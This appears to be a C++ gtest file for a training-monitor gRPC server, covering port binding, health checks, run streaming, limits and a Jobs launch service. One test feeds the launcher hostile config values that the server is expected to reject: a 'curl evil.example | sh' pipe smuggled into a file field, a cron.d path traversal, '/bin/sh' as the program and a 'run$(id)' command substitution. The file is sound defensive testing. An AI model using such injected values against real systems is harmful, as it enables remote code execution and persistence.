// The whole monitor on 127.0.0.1:0: health checking, reflection and the Runs service.
#include "gradwatch/monitor/server.h"

#include <grpcpp/generic/generic_stub.h>
#include <grpcpp/grpcpp.h>
#include <grpcpp/health_check_service_interface.h>
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <thread>

#include "gradwatch/v1/jobs.grpc.pb.h"
#include "gradwatch/v1/runs.grpc.pb.h"
#include "names.h"
#include "gradwatch/v1/telemetry.grpc.pb.h"

namespace gradwatch::monitor {
namespace {

ServerConfig TestConfig(const std::string& name) {
  ServerConfig c;
  c.listen = "127.0.0.1:0";
  c.metrics_listen = "127.0.0.1:0";
  c.data_dir = (std::filesystem::temp_directory_path() /
                ("gradwatch-server-" + std::to_string(::getpid()) + "-" + name)).string();
  std::filesystem::remove_all(c.data_dir);
  return c;
}

// A plain channel to the monitor's gRPC port.
std::shared_ptr<grpc::Channel> Connect(const Server& server) {
  return grpc::CreateChannel("127.0.0.1:" + std::to_string(server.grpc_port()), grpc::InsecureChannelCredentials());
}

TEST(Server, binds_free_ports_on_loopback) {
  SystemClock clock;
  Server server(TestConfig("ports"), clock);
  EXPECT_GT(server.grpc_port(), 0);
  EXPECT_GT(server.metrics_port(), 0);
  EXPECT_NE(server.grpc_port(), server.metrics_port());
}

TEST(Server, answers_health_checks_and_unknown_runs_with_not_found) {
  SystemClock clock;
  Server server(TestConfig("health"), clock);
  auto channel = Connect(server);
  auto runs = v1::Runs::NewStub(channel);
  grpc::ClientContext ctx;
  v1::GetRunRequest req;
  req.set_run_id("nope");
  v1::Run run;
  grpc::Status status = runs->GetRun(&ctx, req, &run);
  EXPECT_EQ(status.error_code(), grpc::StatusCode::NOT_FOUND);
  EXPECT_NE(status.error_message().find("nope"), std::string::npos);

  grpc::ClientContext ctx2;
  v1::ListRunsResponse list;
  ASSERT_TRUE(runs->ListRuns(&ctx2, {}, &list).ok());
  EXPECT_EQ(list.runs_size(), 0);

  // grpc.health.v1.Health/Check through a generic call: the default service answers SERVING.
  // The completion queue hands the result to this thread: no state shared with gRPC's threads.
  grpc::GenericStub generic(channel);
  grpc::ClientContext ctx3;
  grpc::Slice empty("");
  grpc::ByteBuffer request(&empty, 1), response;
  grpc::CompletionQueue cq;
  auto call = generic.PrepareUnaryCall(&ctx3, "/grpc.health.v1.Health/Check", request, &cq);
  call->StartCall();
  grpc::Status health;
  call->Finish(&response, &health, &ctx3);
  void* tag = nullptr;
  bool ok = false;
  ASSERT_TRUE(cq.Next(&tag, &ok));
  EXPECT_EQ(tag, &ctx3);
  EXPECT_TRUE(ok);
  EXPECT_TRUE(health.ok()) << health.error_message();
  cq.Shutdown();
  while (cq.Next(&tag, &ok)) {
  }
}

TEST(Server, names_the_address_it_cannot_bind) {
  SystemClock clock;
  ServerConfig c = TestConfig("bad");
  c.listen = "203.0.113.1:1";  // TEST-NET-3: not an address of this host
  try {
    Server server(c, clock);
    FAIL() << "expected an error";
  } catch (const std::exception& e) {
    EXPECT_NE(std::string(e.what()).find("203.0.113.1:1"), std::string::npos) << e.what();
  }
}

TEST(Server, streams_a_runs_steps_and_its_end_to_a_watcher) {
  SystemClock clock;
  Server server(TestConfig("watch"), clock);
  auto channel = Connect(server);
  auto telemetry = v1::Telemetry::NewStub(channel);
  grpc::ClientContext tctx;
  auto trainer = telemetry->Stream(&tctx);
  v1::TrainerMessage hello;
  hello.mutable_hello()->set_run_id("watched");
  hello.mutable_hello()->set_mode(v1::MODE_OBSERVE);
  ASSERT_TRUE(trainer->Write(hello));
  v1::MonitorMessage reply;
  ASSERT_TRUE(trainer->Read(&reply));  // the hello's ack: the run exists now
  ASSERT_TRUE(reply.has_ack());

  auto runs = v1::Runs::NewStub(channel);
  grpc::ClientContext wctx;
  v1::WatchRunRequest req;
  req.set_run_id("watched");
  auto watcher = runs->WatchRun(&wctx, req);
  v1::RunUpdate update;
  ASSERT_TRUE(watcher->Read(&update));
  ASSERT_TRUE(update.has_run());
  EXPECT_EQ(update.run().state(), v1::RUN_STATE_RUNNING);

  for (uint64_t step = 1; step <= 3; ++step) {
    v1::TrainerMessage m;
    m.mutable_step()->set_step(step);
    m.mutable_step()->set_loss(1.0 / step);
    ASSERT_TRUE(trainer->Write(m));
  }
  std::vector<uint64_t> seen;
  while (seen.size() < 3 && watcher->Read(&update)) {
    if (update.has_step()) seen.push_back(update.step().step());
  }
  EXPECT_EQ(seen, (std::vector<uint64_t>{1, 2, 3}));

  v1::TrainerMessage bye;
  bye.mutable_goodbye()->set_last_step(3);
  ASSERT_TRUE(trainer->Write(bye));
  trainer->WritesDone();
  while (trainer->Read(&reply)) {
  }
  EXPECT_TRUE(trainer->Finish().ok());
  v1::RunState last = v1::RUN_STATE_UNSPECIFIED;
  while (watcher->Read(&update)) {
    if (update.has_run()) last = update.run().state();
  }
  EXPECT_EQ(last, v1::RUN_STATE_FINISHED);
  EXPECT_TRUE(watcher->Finish().ok());
}

TEST(Server, refuses_to_watch_an_unknown_run) {
  SystemClock clock;
  Server server(TestConfig("watch-unknown"), clock);
  auto runs = v1::Runs::NewStub(Connect(server));
  grpc::ClientContext ctx;
  v1::WatchRunRequest req;
  req.set_run_id("nope");
  auto watcher = runs->WatchRun(&ctx, req);
  v1::RunUpdate update;
  EXPECT_FALSE(watcher->Read(&update));
  EXPECT_EQ(watcher->Finish().error_code(), grpc::StatusCode::NOT_FOUND);
}

TEST(Server, refuses_streams_past_its_limit_and_keeps_the_others) {
  SystemClock clock;
  ServerConfig c = TestConfig("limit");
  c.max_streams = 1;
  Server server(c, clock);
  auto stub = v1::Telemetry::NewStub(Connect(server));
  grpc::ClientContext first_ctx, second_ctx;
  auto first = stub->Stream(&first_ctx);
  v1::TrainerMessage hello;
  hello.mutable_hello()->set_run_id("first");
  ASSERT_TRUE(first->Write(hello));
  v1::MonitorMessage reply;
  ASSERT_TRUE(first->Read(&reply));  // accepted
  auto second = stub->Stream(&second_ctx);
  hello.mutable_hello()->set_run_id("second");
  second->Write(hello);
  EXPECT_FALSE(second->Read(&reply));
  grpc::Status refused = second->Finish();
  EXPECT_EQ(refused.error_code(), grpc::StatusCode::RESOURCE_EXHAUSTED);
  EXPECT_NE(refused.error_message().find("1 telemetry streams at most"), std::string::npos);
  v1::TrainerMessage step;
  step.mutable_step()->set_step(1);
  ASSERT_TRUE(first->Write(step));  // the first stream is unaffected
  first->WritesDone();
  while (first->Read(&reply)) {
  }
  EXPECT_TRUE(first->Finish().ok());
  EXPECT_FALSE(server.hub().GetRun("second").has_value());
}

// gRPC binds with SO_REUSEPORT by default on Linux: two monitors on one port would split
// the trainers between them.
TEST(Server, refuses_a_port_another_monitor_holds) {
  SystemClock clock;
  Server first(TestConfig("first"), clock);
  ServerConfig c = TestConfig("second");
  c.listen = "127.0.0.1:" + std::to_string(first.grpc_port());
  c.metrics_listen = "";
  try {
    Server second(c, clock);
    FAIL() << "a second monitor started on " << c.listen;
  } catch (const std::exception& e) {
    EXPECT_NE(std::string(e.what()).find("address in use"), std::string::npos) << e.what();
  }
}

TEST(Server, leaves_a_run_disconnected_when_its_stream_ends_without_a_goodbye) {
  SystemClock clock;
  Server server(TestConfig("nogoodbye"), clock);
  auto stub = v1::Telemetry::NewStub(Connect(server));
  grpc::ClientContext ctx;
  auto stream = stub->Stream(&ctx);
  v1::TrainerMessage m;
  m.mutable_hello()->set_run_id("r");
  ASSERT_TRUE(stream->Write(m));
  m.mutable_step()->set_step(1);
  ASSERT_TRUE(stream->Write(m));
  stream->WritesDone();
  v1::MonitorMessage reply;
  while (stream->Read(&reply)) {
  }
  EXPECT_TRUE(stream->Finish().ok());
  // The server handles the stream's end after the client sees it finish: wait for it.
  v1::RunState state = v1::RUN_STATE_RUNNING;
  for (int i = 0; i < 1000 && state == v1::RUN_STATE_RUNNING; ++i) {
    state = server.hub().GetRun("r")->state();
    if (state == v1::RUN_STATE_RUNNING) std::this_thread::yield();
  }
  EXPECT_EQ(state, v1::RUN_STATE_DISCONNECTED);
}

TEST(ListenAddress, takes_loopback_hosts_and_names_what_is_wrong_with_the_rest) {
  EXPECT_TRUE(CheckListenAddress("127.0.0.1:0").loopback);
  EXPECT_TRUE(CheckListenAddress("127.8.9.10:7070").loopback);
  EXPECT_TRUE(CheckListenAddress("[::1]:0").loopback);
  EXPECT_TRUE(CheckListenAddress("localhost:9464").loopback);
  ListenCheck any = CheckListenAddress("0.0.0.0:0");
  EXPECT_TRUE(any.error.empty()) << any.error;
  EXPECT_FALSE(any.loopback);
  EXPECT_FALSE(CheckListenAddress("10.1.2.3:80").loopback);
  for (const char* bad : {"127.0.0.1:0,0.0.0.0:0", "foo", "127.0.0.1", "127.0.0.1:99999", ":80", "127.0.0.1:0s"}) {
    EXPECT_NE(CheckListenAddress(bad).error.find("is not one HOST:PORT address"), std::string::npos) << bad;
    EXPECT_FALSE(CheckListenAddress(bad).loopback) << bad;
  }
  EXPECT_NE(CheckListenAddress("no-such-host.invalid:80").error.find("cannot resolve"), std::string::npos);
}

}  // namespace
}  // namespace gradwatch::monitor

namespace gradwatch::monitor {
namespace {

class JobsServiceTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ServerConfig c = TestConfig(::testing::UnitTest::GetInstance()->current_test_info()->name());
    c.metrics_listen = "";
    c.trainer = "/bin/echo";  // prints its arguments and exits 0: stands in for gradwatch-train
    server_ = std::make_unique<Server>(c, clock_);
    jobs_ = v1::Jobs::NewStub(Connect(*server_));
  }

  grpc::Status Launch(const std::string& config, const std::string& run_id, v1::Job* job) {
    grpc::ClientContext ctx;
    v1::LaunchRequest req;
    req.set_config_json(config);
    req.set_run_id(run_id);
    return jobs_->Launch(&ctx, req, job);
  }

  SystemClock clock_;
  std::unique_ptr<Server> server_;
  std::unique_ptr<v1::Jobs::Stub> jobs_;
};

TEST_F(JobsServiceTest, refuses_configs_that_reach_beyond_the_trainer_naming_the_field) {
  const std::pair<std::string, std::string> cases[] = {
      {R"({"program": "/bin/sh"})", "program"},                  // another program
      {R"({"trace_csv": "t.csv; curl evil.example | sh"})", "trace_csv"},  // shell syntax
      {R"({"spool": "../../../etc/cron.d/job"})", "spool"},      // out of the run folder
      {R"({"checkpoint_dir": "/root"})", "checkpoint_dir"},
      {R"({"monitor": "evil.example:7070"})", "monitor"},
  };
  for (const auto& [config, field] : cases) {
    v1::Job job;
    grpc::Status s = Launch(config, "", &job);
    EXPECT_EQ(s.error_code(), grpc::StatusCode::INVALID_ARGUMENT) << config;
    EXPECT_EQ(s.error_message().rfind(field + ": ", 0), 0u) << s.error_message();
  }
  v1::Job job;
  grpc::Status s = Launch("{}", "run$(id)", &job);
  EXPECT_EQ(s.error_code(), grpc::StatusCode::INVALID_ARGUMENT);
  EXPECT_EQ(s.error_message().rfind("run_id: ", 0), 0u) << s.error_message();
  grpc::ClientContext ctx;
  v1::ListJobsResponse list;
  ASSERT_TRUE(jobs_->ListJobs(&ctx, {}, &list).ok());
  EXPECT_EQ(list.jobs_size(), 0) << "a refused launch left a job behind";
}

TEST_F(JobsServiceTest, runs_the_configured_program_and_follows_its_log_to_the_end) {
  v1::Job job;
  ASSERT_TRUE(Launch(R"({"steps": 5})", "echoed", &job).ok());
  EXPECT_EQ(job.job_id(), "echoed");

  grpc::ClientContext ctx;
  v1::LogsRequest req;
  req.set_job_id("echoed");
  req.set_follow(true);  // ends once the job has ended and its whole log was sent
  auto reader = jobs_->Logs(&ctx, req);
  std::string log;
  v1::LogChunk chunk;
  while (reader->Read(&chunk)) {
    EXPECT_EQ(chunk.offset(), log.size());
    log += chunk.data();
  }
  ASSERT_TRUE(reader->Finish().ok());
  EXPECT_EQ(log.rfind("--config /", 0), 0u) << log;
  EXPECT_NE(log.find("/echoed/config.json"), std::string::npos) << log;

  grpc::ClientContext ctx2;
  v1::GetJobRequest get;
  get.set_job_id("echoed");
  ASSERT_TRUE(jobs_->GetJob(&ctx2, get, &job).ok());
  EXPECT_EQ(job.state(), v1::JOB_STATE_SUCCEEDED);
  EXPECT_EQ(job.exit_code(), 0);

  grpc::ClientContext ctx3;
  v1::Job again;
  EXPECT_EQ(Launch("{}", "echoed", &again).error_code(), grpc::StatusCode::ALREADY_EXISTS);
}

TEST_F(JobsServiceTest, watch_job_sends_each_change_and_ends_after_the_final_state) {
  v1::Job job;
  ASSERT_TRUE(Launch(R"({"steps": 5})", "watched", &job).ok());

  grpc::ClientContext ctx;
  v1::GetJobRequest req;
  req.set_job_id("watched");
  auto reader = jobs_->WatchJob(&ctx, req);
  std::vector<v1::Job> seen;
  while (reader->Read(&job)) seen.push_back(job);
  ASSERT_TRUE(reader->Finish().ok());
  ASSERT_FALSE(seen.empty());
  EXPECT_EQ(seen.back().state(), v1::JOB_STATE_SUCCEEDED);
  for (size_t i = 0; i + 1 < seen.size(); ++i) {
    EXPECT_FALSE(v1::JobEnded(seen[i].state())) << "a state after the final one, at " << i;
    EXPECT_NE(seen[i].SerializeAsString(), seen[i + 1].SerializeAsString()) << "sent twice unchanged, at " << i;
  }

  grpc::ClientContext again;
  v1::Job after;
  auto ended = jobs_->WatchJob(&again, req);
  ASSERT_TRUE(ended->Read(&after)) << "an ended job is sent once";
  EXPECT_EQ(after.state(), v1::JOB_STATE_SUCCEEDED);
  EXPECT_FALSE(ended->Read(&after));
  EXPECT_TRUE(ended->Finish().ok());

  grpc::ClientContext unknown;
  req.set_job_id("nosuch");
  auto none = jobs_->WatchJob(&unknown, req);
  EXPECT_FALSE(none->Read(&after));
  EXPECT_EQ(none->Finish().error_code(), grpc::StatusCode::NOT_FOUND);
}

}  // namespace
}  // namespace gradwatch::monitor
